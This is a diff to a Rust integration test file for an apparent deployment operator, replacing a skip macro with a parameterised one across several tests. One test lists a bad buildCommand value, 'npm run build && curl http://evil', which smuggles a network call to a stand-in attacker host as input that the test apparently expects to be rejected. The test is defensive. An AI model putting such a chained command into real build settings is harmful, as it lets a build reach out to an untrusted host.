@@ -78,7 +78,7 @@ async fn refused(h: &Harness, manifest: Value) -> String {
 
 #[tokio::test]
 async fn integration_ref_resolves_to_the_integration_id_once_for_a_fleet() {
-    test_support::skip_without_envtest!();
+    test_support::skip_without!(Envtest);
     let h = harness("op-integ-ref").await;
     // "Acme": the name is compared without regard to case; ".git" too.
     let names: Vec<String> = (0..10).map(|i| format!("ref-{i}")).collect();
@@ -118,7 +118,7 @@ async fn integration_ref_resolves_to_the_integration_id_once_for_a_fleet() {
 
 #[tokio::test]
 async fn an_inaccessible_repository_or_an_unknown_integration_stalls_without_a_create() {
-    test_support::skip_without_envtest!();
+    test_support::skip_without!(Envtest);
     let h = harness("op-integ-stall").await;
     h.apply(by_ref(
         "outside",
@@ -162,7 +162,7 @@ async fn an_inaccessible_repository_or_an_unknown_integration_stalls_without_a_c
 
 #[tokio::test]
 async fn build_commands_are_checked_sent_and_a_change_is_a_new_revision() {
-    test_support::skip_without_envtest!();
+    test_support::skip_without!(Envtest);
     let h = harness("op-integ-build").await;
     for (field, bad) in [
         ("buildCommand", "npm run build && curl http://evil"),
@@ -222,7 +222,7 @@ async fn build_commands_are_checked_sent_and_a_change_is_a_new_revision() {
 
 #[tokio::test]
 async fn every_deployment_type_is_created_and_regions_map_by_the_cli_rule() {
-    test_support::skip_without_envtest!();
+    test_support::skip_without!(Envtest);
     let h = harness("op-integ-types").await;
     let types = ["dev_free", "dev", "prod", "dev_zero", "dev_free_zero"];
     for t in types {
@@ -330,7 +330,7 @@ fn cells(table: &str) -> Vec<Vec<&str>> {
 
 #[tokio::test]
 async fn agentctl_lists_integrations_and_their_repositories() {
-    test_support::skip_without_envtest!();
+    test_support::skip_without!(Envtest);
     let env = common::shared_env();
     let client = env.client().await;
     let ns = common::test_namespace(&client, "op-integ-cli").await;
